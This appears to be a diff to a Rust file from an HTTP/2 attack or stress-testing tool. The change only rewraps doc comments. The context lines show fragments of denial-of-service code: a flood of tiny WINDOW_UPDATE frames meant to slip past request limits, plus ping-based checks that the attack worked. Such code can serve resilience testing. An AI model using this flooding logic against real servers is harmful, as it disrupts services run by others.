@@ -44,7 +44,8 @@ fn ping() -> Vec<u8> {
     frame(PING, 0, 0, &[0; 8])
 }
 
-/// Until the server ends the connection, however it does. Once it has answered a [`ping`], the attack has had an effect.
+/// Until the server ends the connection, however it does. Once it has answered a [`ping`], the attack has had
+/// an effect.
 async fn drain(context: &AttackContext, read: &mut (impl AsyncRead + Unpin)) {
     while let Ok((kind, flags)) = next_frame(read).await {
         if kind == PING && flags & ACK != 0 {
@@ -110,12 +111,14 @@ fn text(block: &mut Vec<u8>, text: &str) {
     block.extend(text.as_bytes());
 }
 
-/// Writes all chunks, each with its number of attempts, as fast as the server takes them, unless it ends the connection before.
+/// Writes all chunks, each with its number of attempts, as fast as the server takes them, unless it ends the
+/// connection before.
 async fn flood(context: &AttackContext, chunks: impl Iterator<Item = (usize, Vec<u8>)>) -> Result<(), Error> {
     let (mut read, mut write) = open_with_a_call(context).await?;
     let writing = async {
         for (turn, (attempts, mut bytes)) in chunks.enumerate() {
-            // The server takes the others as slowly as it likes: once it has taken these, the process goes on beside them.
+            // The server takes the others as slowly as it likes: once it has taken these, the process goes on
+            // beside them.
             if turn == 0 {
                 bytes.extend(ping());
             }
@@ -132,8 +135,8 @@ async fn flood(context: &AttackContext, chunks: impl Iterator<Item = (usize, Vec
     Ok(())
 }
 
-/// Sends frames of HTTP/2 that carry no request: the smallest steps of a window. The server has to look at each, and no limit on
-/// calls counts them.
+/// Sends frames of HTTP/2 that carry no request: the smallest steps of a window. The server has to look at
+/// each, and no limit on calls counts them.
 pub(super) async fn frame_flood(context: &AttackContext) -> Result<(), Error> {
     const AT_A_TIME: usize = 1_024;
     let (one, count) = (frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()), context.count as usize);
